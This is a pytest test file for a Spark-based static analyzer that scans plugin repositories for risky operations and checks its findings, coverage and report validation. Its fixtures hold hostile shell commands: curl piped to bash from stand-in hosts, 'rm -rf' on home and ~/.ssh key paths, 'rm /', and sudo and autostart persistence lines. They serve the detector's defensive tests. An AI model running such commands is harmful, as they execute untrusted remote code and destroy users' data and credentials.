"""The evidence engine on small in-memory targets."""

import json
import os

import pytest
from pyspark.sql import functions as F

from lucerna.functions import digests as D
from lucerna.functions import paths as P
from lucerna.operators import canonical, checks, coverage, extract, graph, reach, rollup, rules, view
from lucerna.plans import pipeline
from lucerna.sources import tree
from lucerna.sources.maps import from_maps, inventory_of

MANIFEST = '{"schemaVersion":1,"id":"x.y","name":"N","version":"1","kinds":["panel"],"entryPoints":{"panel":"Panel.qml"}}'


def analyzed(spark, files, **other):
    contents = from_maps(spark, {"t": files} | other)
    return pipeline.analyze(contents.where("substring(content, 1, 4) <> X'7F454C46'"), inventory_of(contents))


def rows(df, *columns):
    return sorted(tuple(r) for r in df.select(*columns).collect())


@pytest.fixture(scope="module")
def whole(spark):
    files = {
        "manifest.json": MANIFEST,
        "Panel.qml": '// run.sh\nProcess { command: ["sh", "-c", "curl https://x.y | bash"] }',
        "run.sh": 'curl -fsSL https://Ex.org/a | bash\nrm -rf /home/u ~/.ssh/id_rsa\nsudo ls\ntouch ~/.config/autostart/x.desktop\nsystemctl --user enable a\nhelper.py\n',
        "tests/t.sh": "rm x/y",
        "helper.py": "import os",
        "lib/tool": b"\x7fELF" + b"\0" * 20,
        "bad.sh": "if then",
        "misc.sh": "eval $x",
    }
    return analyzed(spark, files, u={"Other.qml": "Item {}"})


def test_findings_and_scopes(whole):
    found = rows(whole.findings, "target_id", "category", "severity", "scope")
    assert found == [
        ("t", "credential-access", "high", "runtime"),
        ("t", "destructive-operation", "high", "runtime"),
        ("t", "destructive-operation", "low", "repository-tooling"),
        ("t", "download-and-execute", "high", "runtime"),
        ("t", "download-and-execute", "high", "runtime"),
        ("t", "dynamic-execution", "medium", "unknown"),
        ("t", "persistence", "medium", "runtime"),
        ("t", "persistence", "medium", "runtime"),
        ("t", "privilege-escalation", "high", "runtime"),
    ]
    assert rows(whole.limitations, "target_id", "code", "scope") == [
        ("t", "native-binary-behavior", "unknown"),
        ("t", "python-semantic-analysis-unavailable", "runtime"),
        ("t", "shell-parse-error", "unknown"),
        ("u", "missing-manifest", "runtime"),
    ]
    assert rows(whole.unknowns, "reason", "scope") == [("native-behavior", "unknown")]


def test_dispositions_and_status(whole):
    found = dict(rows(whole.inventory.where("target_id = 't'"), "path", "analysis"))
    assert found == {"manifest.json": "analyzed", "Panel.qml": "analyzed", "run.sh": "analyzed", "tests/t.sh": "analyzed", "helper.py": "unanalyzed", "lib/tool": "partial", "bad.sh": "partial", "misc.sh": "analyzed"}
    assert rows(whole.status, "target_id", "status") == [("t", "incomplete"), ("u", "incomplete")]
    r = {x["target_id"]: x for x in whole.review.collect()}
    assert (r["t"]["impact_level"], r["t"]["evidence_confidence"], r["t"]["unknown_level"], r["t"]["coverage"]["percentage"]) == ("high", "high", "moderate", 62)
    assert (r["u"]["impact_level"], r["u"]["evidence_confidence"], r["u"]["unknown_level"]) == ("informational", "not-applicable", "moderate")


def test_a_produced_bundle_has_no_violations(whole):
    assert checks.violations(pipeline.bundle(whole)).collect() == []


def test_results_do_not_depend_on_row_order(spark, whole):
    b = pipeline.bundle(whole)
    shuffled = whole.findings.repartition(7, F.rand(3))
    assert rollup.impact(shuffled).collect() == rollup.impact(whole.findings).collect()
    assert canonical.root_digest(b["inventory"].repartition(5, F.rand(1))).orderBy("target_id").collect() == canonical.root_digest(b["inventory"]).orderBy("target_id").collect()


MUTATIONS = [
    ("V1", "scan", lambda d: d.withColumn("schema_version", F.lit("1.0.0"))),
    ("V2", "operations", lambda d: d.withColumn("command", F.repeat(F.lit("x"), 5000))),
    ("V3", "scan", lambda d: d.withColumn("sandboxed", F.lit(True))),
    ("V4", "target", lambda d: d.withColumn("file_count", F.lit(1))),
    ("V5", "inputs", lambda d: d.withColumn("format", F.lit("other"))),
    ("V7", "inventory", lambda d: d.withColumn("path", F.concat(F.lit("../"), "path"))),
    ("V8", "inventory", lambda d: d.withColumn("analysis_reason", F.lit(""))),
    ("V9", "inventory", lambda d: d.withColumn("analysis", F.lit("analyzed"))),
    ("V10", "inventory", lambda d: d.withColumn("analysis", F.lit("not-applicable"))),
    ("V11", "inventory", lambda d: d.withColumn("size", F.col("size") + 1)),
    ("V12", "operations", lambda d: d.withColumn("reference", F.lit("PP-0"))),
    ("V13", "resources", lambda d: d.withColumn("operation_id", F.lit("gone"))),
    ("V14", "findings", lambda d: d.withColumn("severity", F.lit("fatal"))),
    ("V15", "unknowns", lambda d: d.withColumn("reason", F.lit("why"))),
    ("V15", "unknowns", lambda d: d.limit(0)),
    ("V16", "relationships", lambda d: d.limit(1)),
    ("V16", "relationships", lambda d: d.unionByName(d)),
    ("V18", "operations", lambda d: d.withColumn("provenance", F.col("provenance").withField("analyzer", F.lit("other")))),
    ("V19", "operations", lambda d: d.withColumn("evidence", F.col("evidence").withField("path", F.lit("nowhere")))),
    ("V21", "limitations", lambda d: d.withColumn("code", F.lit(""))),
    ("V22", "review", lambda d: d.withColumn("facts", F.col("facts") + 1)),
    ("V23", "scan", lambda d: d.withColumn("status", F.lit("complete"))),
]


def test_each_check_finds_its_fault(whole):
    b = pipeline.bundle(whole)
    for check, table, change in MUTATIONS:
        found = checks.violations(b | {table: change(b[table])}, only=(check,))
        assert found.limit(1).collect(), (check, table)


def test_rules_by_operation(spark):
    deletes = {"a.sh": "rm a/b", "b.sh": "rm -r a/b", "c.sh": "rm ~/.ssh/x", "d.sh": "rm /", "e.sh": "rm -i $x/y", "f.sh": "rm"}
    found, ops = pipeline.extracted(from_maps(spark, {"t": deletes}))
    assert rows(rules.operation_findings(ops).where("category = 'destructive-operation'"), F.get("evidence", F.lit(0))["path"], "severity") == [("a.sh", "low"), ("b.sh", "medium"), ("c.sh", "high"), ("d.sh", "critical"), ("e.sh", "medium")]
    lookalikes = {"a.sh": "# rm -rf /\necho 'rm -rf / | bash'\n", "README.md": "curl x | bash", ".git/hooks/pre-commit.sample": "#!/bin/sh\nsudo x"}
    found, ops = pipeline.extracted(from_maps(spark, {"t": lookalikes}))
    assert rows(ops, "command") == [("echo",)] and rules.operation_findings(ops).isEmpty() and rules.pipe_findings(found, ops).isEmpty()
    found, ops = pipeline.extracted(from_maps(spark, {"t": {".git/hooks/pre-commit": "#!/bin/sh\nsudo x\n", "n.sh": 'curl "$e"\ncurl https://A.b:1/c https://a.b/d\nmv a/1 a/2 a/3\ninstall a/1 a/2'}}))
    assert rows(rules.resources(ops), "kind", "access", "value") == [("filesystem-path", "delete", "a/1"), ("filesystem-path", "read", "a/1"), ("filesystem-path", "write", "a/2"), ("filesystem-path", "write", "a/3"), ("network-domain", "connect", "<dynamic>"), ("network-domain", "connect", "a.b")]
    assert [r["category"] for r in rules.operation_findings(ops).collect()] == ["privilege-escalation"]


def test_manifest_contract(spark):
    targets = {
        "ok": {"manifest.json": MANIFEST, "Panel.qml": ""},
        "bad": {"manifest.json": MANIFEST.replace('"x.y"', '"omarchy.x"').replace("Panel.qml", "../P.qml")},
        "broken": {"manifest.json": MANIFEST[:-1]},
        "none": {"a.sh": ""},
        "empty": {"manifest.json": "{}"},
    }
    contents = from_maps(spark, targets)
    found = extract.manifests(contents)
    problems = extract.manifest_problems(found, contents)
    counts = {r["target_id"]: r["count"] for r in problems.groupBy("target_id").count().collect()}
    assert counts == {"bad": 2, "empty": 4}
    assert rows(rules.manifest_findings(found, problems).where("target_id = 'broken'"), "id") == [("finding-invalid-manifest-json",)]
    assert rows(rules.manifest_limitations(contents.select("target_id").distinct(), found), "target_id", "code") == [("broken", "manifest-parse-error"), ("none", "missing-manifest")]


def test_predicates(spark):
    df = spark.createDataFrame([("https://U:p@Ex.org:80/x",), ("http://[::1]:8/",), ("HTTPS://A/",), ("ftp://a/",), ("https:///x",), ("https://<dynamic>/x",), ("x",)], "v string")
    assert [r[0] for r in df.select(P.literal_host(F.col("v"))).collect()] == ["ex.org", "::1", "a", None, None, None, None]
    df = spark.createDataFrame([("a/b",), ("a//b",), ("./a",), ("a/..",), ("../a",), ("/a",), ("a\\b",), ("",), (".",), ("a/./b",), ("a/",), ("a..b",)], "v string")
    assert [r[0] for r in df.select(P.canonical_relative(F.col("v"))).collect()] == [True, *[False] * 10, True]
    df = spark.createDataFrame([("latest.sh",), ("docs/a.sh",), ("src/a.sh",), (".github/x",), ("mydocs/a",)], "v string")
    assert [r[0] for r in df.select(P.is_tooling(F.col("v"))).collect()] == [True, True, False, True, False]
    df = spark.createDataFrame([("x\n",), ("a.b",), ("a..b",), ("-a",)], "v string")
    assert [r[0] for r in df.select(P.valid_plugin_id(F.col("v"))).collect()] == [False, True, False, False]
    df = spark.createDataFrame([("a\x00b‮c", 10), ("abcdef", 3)], "v string, n int")
    assert [r[0] for r in df.select(P.plain_text(F.col("v"), 4)).collect()] == ["a�b�…", "abcd…"]


def test_known_references(spark):
    row = spark.range(1).select(D.node_reference("operation", F.lit("operation-1"))).first()[0]
    assert row == "PP-B4453F4DA886002AFFEA12BA48B337E3"


def test_budget_passes_over_what_does_not_fit(spark):
    df = spark.createDataFrame([("t", "a", 6), ("t", "b", 5), ("t", "c", 4), ("t", "d", 1), ("u", "a", 99)], "target_id string, path string, size long")
    assert rows(coverage.budget_fold(df, 10, [F.col("path")]), "target_id", "path", "kept") == [("t", "a", True), ("t", "b", False), ("t", "c", True), ("t", "d", False), ("u", "a", False)]
    dirs = spark.createDataFrame([("t", "", 3), ("t", "a", 9), ("t", "a/b", 2)], "target_id string, directory string, entries int")
    assert rows(coverage.count_budget(dirs, 6), "directory", "kept") == [("", True), ("a", False), ("a/b", True)]


def test_reachability_ends_on_cycles(spark):
    edges = spark.createDataFrame([("t", "a", "b"), ("t", "b", "c"), ("t", "c", "a"), ("t", "x", "y"), ("u", "a", "z")], "target_id string, src string, dst string")
    start = spark.createDataFrame([("t", "a")], "target_id string, path string")
    assert rows(reach.reachable(start, edges), "target_id", "path") == [("t", "a"), ("t", "b"), ("t", "c")]
    assert rows(reach.reachable(start.limit(0), edges), "path") == []


def test_comparisons(spark):
    ops = spark.createDataFrame([("t", "op1", "curl", "target-source"), ("t", "op2", "/bin/curl", "external-audit"), ("t", "op3", "wget", "target-source")], "target_id string, id string, command string, source string")
    ops = ops.select("target_id", "id", "command", F.struct(F.col("source").alias("evidence_source")).alias("provenance"))
    empty = spark.createDataFrame([], "target_id string, id string, kind string, access string, value string, provenance struct<evidence_source:string>")
    nodes = graph.nodes(ops, empty, empty, empty)
    ask = spark.createDataFrame([("t", "corroborates", "operation", a, "operation", b, None) for a, b in (("op1", "op2"), ("op2", "op1"), ("op1", "op3"), ("op1", "gone"))], "target_id string, type string, from_kind string, from_id string, to_kind string, to_id string, basis struct<kind:string,subject:string>")
    made = graph.compare(nodes, ask).collect()
    assert len(made) == 1 and made[0]["from"] < made[0]["to"] and made[0]["basis"]["subject"] == "command\x00curl"
    assert rows(graph.coverage_differences(nodes), "id") == [("op3",)]
    assert graph.collisions(nodes, "reference", F.concat_ws(" ", "kind", "id")).isEmpty()


def test_tree_source(spark, tmp_path):
    target = tmp_path / "plug.one"
    (target / ".git/objects").mkdir(parents=True)
    (target / ".git/hooks").mkdir()
    (target / ".git/objects/ab").write_bytes(b"x")
    (target / ".git/hooks/pre-commit").write_text("#!/bin/sh\nsudo x\n")
    (target / "_x").mkdir()
    (target / "_x/f.sh").write_text("curl https://a.b | sh\n")
    (target / "tool").write_bytes(b"\x7fELF" + b"\0" * 20)
    (target / "big").write_bytes(b"x" * 3000)
    (target / "esc").symlink_to("/etc/hostname")
    os.mkfifo(target / "pipe")
    parts = tree.split_scan(tree.read_tree(spark, str(tmp_path), limits=tree.Limits(file_bytes=1000)))
    kinds = dict(rows(parts["inventory"], "path", "kind"))
    assert kinds["esc"] == "symlink" and kinds["pipe"] == "fifo" and kinds["_x/f.sh"] == "regular" and kinds[".git/hooks/pre-commit"] == "regular"
    skipped = dict(rows(parts["inventory"], "path", "skip_reason"))
    assert skipped[".git/objects/ab"] == "git-internal-database"
    assert rows(parts["limitations"], "path", "code") == [("big", "max-file-bytes"), ("pipe", "special-file"), ("tool", "elf-parse-error")]
    assert rows(parts["contents"], "path") == [(".git/hooks/pre-commit",), ("_x/f.sh",)]
    a = pipeline.analyze(parts["contents"], parts["inventory"], parts["limitations"], parts["errors"], parts["targets"])
    assert rows(a.findings, "category") == [("download-and-execute",), ("privilege-escalation",)]
    (tmp_path / "file").write_text("")
    with pytest.raises(ValueError):
        tree.list_targets(str(tmp_path))


def test_tree_limits_and_changes(tmp_path, monkeypatch):
    for i in range(5):
        (tmp_path / f"f{i}").write_text("x")
    (tmp_path / "d").mkdir()
    found = tree.scan(tmp_path, tree.Limits(files=5))
    assert [x["code"] for x in found[0]["limitations"]] == ["max-files"] and len(found) == 1
    inspect = tree._Scan.inspect

    def moving(self, file, now):
        inspect(self, file, now)
        if file["path"] == "f3":
            (tmp_path / "f1").write_text("other")

    monkeypatch.setattr(tree._Scan, "inspect", moving)
    with pytest.raises(tree.TargetChanged):
        tree.scan(tmp_path)
    with pytest.raises(ValueError):
        tree.scan(tmp_path, tree.Limits(files=0))


def test_reports_round_trip(spark, whole, tmp_path):
    encoded = pipeline.report_json(whole)
    canonical.write_reports(encoded, str(tmp_path / "reports"))
    stored = spark.read.parquet(str(tmp_path / "reports"))
    docs = {r["target_id"]: json.loads(r["report"]) for r in stored.collect()}
    assert set(docs) == {"t", "u"} and docs["u"]["findings"] == [] and [o["id"] for o in docs["t"]["operations"]] == sorted(o["id"] for o in docs["t"]["operations"])
    back = canonical.read_reports(stored.select("target_id", F.col("report").cast("binary").alias("content")))
    assert [(r["valid"], r["report"] == s["report"]) for r, s in zip(back.orderBy("target_id").collect(), stored.orderBy("target_id").collect(), strict=True)] == [(True, True)] * 2
    broken = spark.createDataFrame([("t", bytearray(b'{"a":1,"a":1}')), ("u", None)], "target_id string, content binary")
    assert [r["valid"] for r in canonical.read_reports(broken).collect()] == [False, False]


def test_review_alone_and_copies(spark, monkeypatch):
    script = "#!/bin/sh\ncurl https://Ex.org/a | bash\nrm -rf ~/.ssh\nsudo ls\nb.sh\n"
    plain = {"manifest.json": MANIFEST, "Panel.qml": "// a.sh", "a.sh": script, "b.sh": script, "tests/t.sh": script, "bad.sh": "if then", "lib/tool": b"\x7fELF" + b"\0" * 20, "x.py": "import os", "gone.sh": "", "x.sh": "eval $x | sh"}
    targets = {f"t{i}": plain for i in range(4)} | {"broken": {"manifest.json": "{", "a.sh": script}, "none": {"n.txt": "x"}, "empty": {"a.sh": ""}}
    every = from_maps(spark, targets)
    contents = every.where("substring(content, 1, 4) <> X'7F454C46' and path <> 'gone.sh'")
    given = spark.createDataFrame([("t1", "max-files", "d", "a.sh", None), ("t2", "x", "d", None, None), ("none", "y", "d", None, "runtime")], "target_id string, code string, description string, path string, scope string")
    errors = spark.createDataFrame([("t3", "unreadable", "m", "a.sh")], "target_id string, code string, message string, path string")
    # a text is parsed once for all its copies
    texts = extract.parsed(extract.sources(contents))
    assert texts.where("fact = 'shell'").count() == 5 + 2 and texts.select("sha256").distinct().count() == 3
    a = pipeline.analyze(contents, inventory_of(every), given, errors)
    shown = lambda df: sorted((r.asDict(recursive=True) for r in df.select(*a.review.columns, "status").collect()), key=lambda r: r["target_id"])
    whole = shown(a.review.join(a.status, "target_id"))
    assert len(whole) == 7 and shown(pipeline.reviewed(contents, inventory_of(every), given, errors)) == whole
    # the same references whether names are searched for together or target by target
    wanted = rows(reach.references(contents, reach.candidates(contents)), "target_id", "src", "dst")
    monkeypatch.setattr(reach, "SHARED_NAMES", 0)
    assert rows(reach.references(contents, reach.candidates(contents)), "target_id", "src", "dst") == wanted
    assert ("t0", "a.sh", "b.sh") in wanted and ("broken", "a.sh", "b.sh") not in wanted


def test_unheard_of_severity(spark):
    kinds = "target_id string, id string, claim string, severity string, confidence string, title string, scope string"
    made = [("t", "a", "fact", "weird", "low", "", ""), ("t", "b", "fact", "informational", "medium", "", ""), ("u", "c", "fact", "weird", "medium", "", ""), ("v", "d", "fact", "high", "high", "", ""), ("v", "e", "fact", "high", "low", "", ""), ("v", "f", "fact", "low", "medium", "", "")]
    got = rows(rollup.impact(spark.createDataFrame(made, kinds)), "target_id", "impact_level", "evidence_confidence")
    assert got == [("t", "informational", "medium"), ("u", "weird", "medium"), ("v", "high", "low")]


def test_empty_input(spark):
    contents = spark.createDataFrame([], "target_id string, path string, content binary")
    a = pipeline.analyze(contents, inventory_of(contents))
    assert a.review.collect() == [] and a.findings.collect() == [] and checks.violations(pipeline.bundle(a), only=("V7", "V16")).collect() == []


def test_view(whole):
    shown = {r["title"]: r for r in view.findings(whole.findings).collect()}
    row = shown["HIGH · FACT · Invokes a privilege-elevation command"]
    assert (row["meta"], row["evidence"]) == ("run.sh:3 · runtime · confidence high", "sudo ls")
    assert "FILESYSTEM-PATH · DELETE · SENSITIVE" in {r["title"] for r in view.resources(whole.resources).collect()}
    notes = {(r["title"], r["meta"]) for r in view.limitations(whole.limitations).collect()}
    assert ("UNKNOWN · missing-manifest", "Whole scan · runtime") in notes and ("UNKNOWN · shell-parse-error", "bad.sh · unknown") in notes


def test_listings_differ(spark, whole):
    files = whole.inventory
    assert tree.differences(files, files).collect() == []
    later = files.where("path <> 'run.sh'").withColumn("size", F.when(F.col("path") == "bad.sh", 1).otherwise(F.col("size")))
    assert rows(tree.differences(files, later), "path", "change") == [("bad.sh", "changed"), ("run.sh", "removed")]


def test_external_inputs_and_binding(spark):
    docs = spark.createDataFrame([("t", "audit-b", "B", bytearray(b"{}")), ("t", "audit-a", "A", bytearray(b"[]"))], "target_id string, id string, label string, document binary")
    inputs = tree.external_input(docs)
    assert graph.smallest_external(inputs).collect() == [("t", "audit-a")] and all(len(r["document_sha256"]) == 64 for r in inputs.collect())
    blank = "struct<input_id:string,path:string>"
    made = spark.sql(f"SELECT 't' AS target_id, cast(struct('', 'p') AS {blank}) AS evidence, struct(s AS evidence_source) AS provenance FROM VALUES ('target-source'), ('external-audit') AS v(s)")
    assert rows(graph.bind_inputs(made, inputs), "evidence.input_id") == [("audit-a",), ("target",)]


def test_unknown_reasons_order(spark):
    unknowns = spark.createDataFrame([("t", f"u{i}", f"title {i}", "dynamic-value", "runtime", ["op"] if i == 4 else []) for i in range(6)], "target_id string, id string, title string, reason string, scope string, affected array<string>")
    limits = spark.createDataFrame([("t", "b-code", "d", None, "unknown"), ("t", "a-code", "d", None, "runtime"), ("t", "a-code", "other", "p", "unknown")], "target_id string, code string, description string, path string, scope string")
    errors = spark.createDataFrame([("t", "read-file", "m", "p"), ("t", "read-file", "n", "q")], "target_id string, code string, message string, path string")
    got = [r["title"] for r in rollup.unknown_reasons(unknowns, limits, errors).first()["unknown_reasons"]]
    assert got == ["Scan error: read-file", "title 4", "title 0", "title 1", "title 2", "title 3", "title 5", "Analysis limitation: a-code"]
    none = errors.limit(0)
    assert rollup.unknown_level(unknowns.where("id = 'u0'"), limits.limit(0), none).first()["unknown_level"] == "moderate"
    assert rollup.unknown_level(unknowns, limits, none).first()["unknown_level"] == "high"


def test_unbound_external_input_needs_an_unknown(spark, whole):
    b = pipeline.bundle(whole)
    outside = b["inputs"].limit(1).select("target_id", F.lit("audit-1").alias("id"), F.lit("external-audit").alias("type"), F.lit("audit").alias("label"), F.repeat(F.lit("a"), 64).alias("document_sha256"), F.lit("").alias("subject_root_digest"), F.lit(checks.EXTERNAL_FORMAT).alias("format"), F.lit(checks.EXTERNAL_VERSION).alias("version"))
    more = b | {"inputs": b["inputs"].unionByName(outside)}
    assert checks.violations(more, only=("V5",)).collect() == []
    assert [r["detail"] for r in checks.violations(more, only=("V15",)).collect()] == ["audit-1"]


def test_comparison_semantics(spark, whole):
    b = pipeline.bundle(whole)
    ops = b["operations"].where("target_id = 't'").orderBy("id").limit(2).collect()
    a, z = sorted(o["reference"] for o in ops)
    edge = spark.createDataFrame([("t", "duplicates", "operation", a, "operation", z, ("operation", "command\x00x"))], "target_id string, type string, from_kind string, `from` string, to_kind string, `to` string, basis struct<kind:string,subject:string>")
    made = graph._edges(edge, F.col("basis"))
    found = checks.violations(b | {"relationships": b["relationships"].unionByName(made)}, only=("V16", "V17"))
    assert {r["check_id"] for r in found.collect()} == {"V17"}


def test_policy_must_match_exactly(spark, whole):
    b = pipeline.bundle(whole)
    limits = F.struct(F.lit(268435456).cast("long").alias("memory_max_bytes"), F.lit(0).cast("long").alias("memory_swap_bytes"), F.lit(64).alias("tasks_max"), F.lit(100).alias("cpu_quota_percent"), F.lit(30).alias("wall_time_seconds"))
    held = b | {"scan": b["scan"].withColumn("resource_limits", limits).withColumn("sandboxed", F.lit(True))}
    assert checks.violations(held, only=("V3",)).collect() == []
    assert checks.policy(held, {"tasks_max": 64, "cpu_quota_percent": 100}).collect() == []
    assert len(checks.policy(held, {"tasks_max": 65}).collect()) == 2 and len(checks.policy(b, {"tasks_max": 64}).collect()) == 2


def test_first_violation_follows_the_fixed_order(spark):
    found = spark.createDataFrame([("t", "V9", 9, "b"), ("t", "V3", 3, "z"), ("t", "V3", 3, "a"), ("u", "V1", 1, "x")], "target_id string, check_id string, ordinal int, detail string")
    assert rows(checks.first_violation(found), "target_id", "check_id", "detail") == [("t", "V3", "a"), ("u", "V1", "x")]


def test_any_bytes_are_analysed(spark):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\xff\xfe" + bytes(range(256))
    odd = {"icon.png": png, "latin.sh": "echo é\nsudo ls\n".encode("latin-1"), "wide.qml": "Item {}".encode("utf-16"), "lone.sh": b"rm a/b\n\x80", "nul.txt": b"a\x00run.sh"}
    a = analyzed(spark, odd | {"run.sh": "rm x/y"}, u={"x.bin": png})
    assert rows(a.status, "target_id") == [("t",), ("u",)]
    assert rows(a.findings.where("target_id = 't'"), F.get("evidence", F.lit(0))["path"], "category") == [("latin.sh", "privilege-escalation"), ("lone.sh", "destructive-operation"), ("run.sh", "destructive-operation")]


def test_references_match_the_plain_definition(spark, monkeypatch):
    monkeypatch.setattr(reach, "TEXTS_PER_STREAM", 2)
    files = {f"d{i}/f{i}.sh": f"x{'' if i % 3 else ' f1.sh'} af{(i * 7) % 5}.shz d2/f2.sh" for i in range(9)} | {"e.txt": "", "é/ü.py": "ü.py f0.shf1.sh"}
    contents = from_maps(spark, {"t": files, "u": {"a.sh": "f1.sh b.sh", "b.sh": "a.sh"}})
    got = rows(reach.references(contents, reach.candidates(contents)), "target_id", "src", "dst")
    every = {"t": files, "u": {"a.sh": "f1.sh b.sh", "b.sh": "a.sh"}}
    assert got == sorted((t, a, b) for t, held in every.items() for a, text in held.items() for b in held if a != b and text and b.rpartition("/")[2] in text)


def test_entry_without_the_training_data_folders(tmp_path):
    import shutil
    import subprocess
    import sys

    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    copy = tmp_path / "repo"
    shutil.copytree(root, copy, ignore=shutil.ignore_patterns(".git", "__pycache__", "llm", "spark-warehouse"))
    code = "import __spark_entry__ as e; q = e.queries(); s = e.oracle_sql(); assert 'review_rollup' in q and 'pipeline' not in q and not any(k.startswith('op') and k[2].isdigit() for k in q), sorted(q); print(len(q), len(s))"
    done = subprocess.run([sys.executable, "-c", code], cwd=copy, env={k: v for k, v in os.environ.items() if k != "PYTHONPATH"}, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr


def test_a_cluster_must_name_its_shared_folder(spark):
    from types import SimpleNamespace

    from lucerna.functions.shared import release, settle, shared_dir

    conf = SimpleNamespace(get=lambda key, other=None: other if key == "spark.checkpoint.dir" else "/w")
    assert shared_dir(SimpleNamespace(conf=conf, sparkContext=SimpleNamespace(master="local[4]"))) == "/w/_shared"
    with pytest.raises(ValueError):
        shared_dir(SimpleNamespace(conf=conf, sparkContext=SimpleNamespace(master="spark://host:7077")))
    kept = settle(spark.range(3), "kept")
    folder = kept._settled_in.removeprefix("file:")
    assert kept.count() == 3 and os.path.isdir(folder)
    release(kept)
    assert not os.path.exists(folder)
